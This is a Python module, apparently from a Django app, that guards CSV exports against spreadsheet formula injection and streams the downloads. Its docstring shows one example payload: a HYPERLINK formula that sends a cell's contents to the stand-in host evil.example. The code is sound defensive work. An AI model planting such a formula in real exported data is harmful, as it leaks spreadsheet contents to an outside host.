"""CSV files that are safe to open in a spreadsheet: the one home of the rule.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula, so a name such as
`=HYPERLINK("http://evil.example/?"&A1, "Click")` typed by anyone would run
when the file is opened. Every exported cell goes through `neutralise`,
which puts a `'` in front of such text (the spreadsheet then shows it as
text, and the `'` is not shown). Text made only of digits and the signs of
numbers and phone numbers ("+44 20 7946 0958", "-12.50") cannot call a
function or reach another cell, so it is left as it is. `restore` undoes
`neutralise` when such a file is imported again.

`csv_response` streams rows as a CSV download (UTF-8 with a byte order mark,
so spreadsheet programs read accents right).
"""

import csv
import re

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Numbers and phone numbers: digits, spaces and . , ( ) + - / only.
PLAIN_NUMBER = re.compile(r"[+\-]?[\d\s().,/+\-]*\d[\d\s().,/+\-]*")
BOM = "\ufeff"


def neutralise(value):
    """The cell as text that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text):
    """A cell read back from a file that `neutralise` wrote: the `'` it added
    is taken off again."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class _Echo:
    def write(self, value):
        return value


def csv_lines(header, rows):
    """The CSV text of `header` and then each row, one line at a time; every
    cell neutralised."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_response(filename, header, rows):
    """A streaming CSV download of `rows` (an iterable, read as it is sent)."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


def refused_export(filters):
    """The 400 answer to an export whose list filters (a `core.filters.ListFilterSet`)
    could not all be read, or None when they could: an export is of the list
    as the page shows it, never of more."""
    if not filters.errors:
        return None
    from django.http import HttpResponse

    problems = "; ".join(f"{name}: {' '.join(errors)}" for name, errors in filters.errors.items())
    return HttpResponse(
        f"The export was not made, a filter could not be read: {problems}",
        status=400,
        content_type="text/plain; charset=utf-8",
    )


def export_filename(kind, business):
    """ "bookings-2026-03-05.csv": what, and the business's day."""
    return f"{kind}-{business.today():%Y-%m-%d}.csv"
